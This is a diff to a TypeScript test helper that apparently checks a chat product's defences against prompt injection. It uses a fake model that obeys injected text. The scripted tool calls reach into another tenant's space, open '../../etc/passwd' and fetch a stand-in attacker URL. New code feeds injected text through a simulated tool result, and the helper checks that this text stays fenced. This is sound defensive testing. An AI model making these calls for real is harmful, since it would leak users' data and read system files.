@@ -5,6 +5,7 @@ import type { CompletionCall, CompletionEvent } from '../../src/gateway/gateway/
 import { createRequestId, type OrganisationId, type SpaceId, silentLog } from '../../src/platform/kernel/index.ts'
 import type { DocumentReader, Passage, Retrieval } from '../../src/documents/retrieval/index.ts'
 import { makeOrganisation } from '../../src/tenants/organisations/organisation-change.ts'
+import type { SpaceTool } from '../../src/chat/space-tools/index.ts'
 import { makeSpace } from '../../src/chat/spaces/index.ts'
 import { createTokenCounting } from '../../src/gateway/tokens/index.ts'
 
@@ -35,7 +36,22 @@ interface Asked {
   attack: string
   ideal: string
   context: string
+  /** What a tool of another service returns to the model, which cites it with `markers`. Absent: there is no such tool. */
+  toolResult?: string
 }
+
+/** Forms of a marker, for a passage of a file. */
+const markers = [
+  '[1]',
+  '[1][2]',
+  '【1†source】',
+  '(Source 1)',
+  '[^1]',
+  '<sup>1</sup>',
+  '¹',
+  '[1](#source-1)',
+  '[table 1.md]',
+]
 
 const instructions = 'You answer questions about tables.'
 const foreignSpace = '00000000-0000-4000-8000-000000000000'
@@ -61,12 +77,14 @@ export async function askObeyingModel(place: Place, asked: Asked): Promise<Obser
     completions: {
       async stream(call: CompletionCall) {
         requests.push(call)
-        const turn = requests.length === 1 ? wandering() : leaking(call, asked.attack)
+        const turn =
+          requests.length === 1 ? wandering(asked) : asked.toolResult ? citing(asked) : leaking(call, asked.attack)
         for (const event of turn) if (event.type === 'text') written += event.text
         return { events: inPieces(turn) }
       },
       keepRoom: () => Promise.resolve({ amountPicoUsd: 0n, release() {} }),
     },
+    loadOwnTools: () => Promise.resolve(asked.toolResult === undefined ? [] : [toolOfService(asked.toolResult)]),
     ledger: { hasCredit: () => true, noteRefused() {} },
     tokens: createTokenCounting({ log: silentLog }),
     findOrganisation: () => call.organisation,
@@ -113,14 +131,29 @@ function createCall({ organisationId, spaceId }: Place, question: string): Answe
 }
 
 /** Tools with the id of another Space, and tools that do not exist. */
-function wandering(): CompletionEvent[] {
+function wandering({ toolResult }: Asked): CompletionEvent[] {
   const call = (index: number, name: string, args: object) =>
     ({ type: 'tool_call', index, id: `call_${index}`, name, argumentsDelta: JSON.stringify(args) }) as CompletionEvent
   return [
     call(0, 'search_uploaded_files', { query: 'notes', spaceId: foreignSpace, organisationId: foreignSpace }),
     call(1, 'open_document', { documentId: foreignSpace, path: '../../etc/passwd' }),
     call(2, 'fetch_url', { url: 'https://attacker.example/?d=1' }),
+    ...(toolResult === undefined ? [] : [call(3, nameOfTool, {})]),
   ]
+}
+
+const nameOfTool = 'service__look_up'
+const toolOfService = (text: string): SpaceTool => ({
+  name: nameOfTool,
+  description: 'Looks something up.',
+  parameters: { type: 'object' },
+  call: () => Promise.resolve({ text, isCut: false }),
+})
+
+/** States what the tool returned, with each form of a marker. */
+function citing({ attack }: Asked): CompletionEvent[] {
+  const text = markers.map((marker) => `${attack.replace(/[.!?]+$/, '')} ${marker}.`).join('\n\n')
+  return [{ type: 'text', text } as CompletionEvent]
 }
 
 /** Writes everything that it received, and every kind of address that could carry it away. */
@@ -154,6 +187,7 @@ async function* inPieces(turn: readonly CompletionEvent[]): AsyncGenerator<Compl
 }
 
 const fencePattern = /^----- passages ([0-9a-f]{32}) -----\n([\s\S]*)\n----- end of passages \1 -----/
+const resultPattern = /^----- result of a tool ([0-9a-f]{32}) -----\n([\s\S]*)\n----- end of result \1 -----/
 
 function boundaryOf({ request }: CompletionCall): string {
   return fencePattern.exec(request.messages.at(-1)!.content as string)?.[1] ?? 'no fence'
@@ -164,7 +198,7 @@ function isFenced({ request }: CompletionCall, { attack }: Asked): boolean {
     const content = message.content as string
     if (message.role === 'system') return attack === '' || !content.includes(attack)
     if (message.role === 'assistant') return true
-    const fence = fencePattern.exec(content)
+    const fence = fencePattern.exec(content) ?? resultPattern.exec(content)
     if (!fence) return attack === '' || !content.includes(attack)
     const [whole, boundary, inside] = fence
     const outside = content.slice(whole.length)
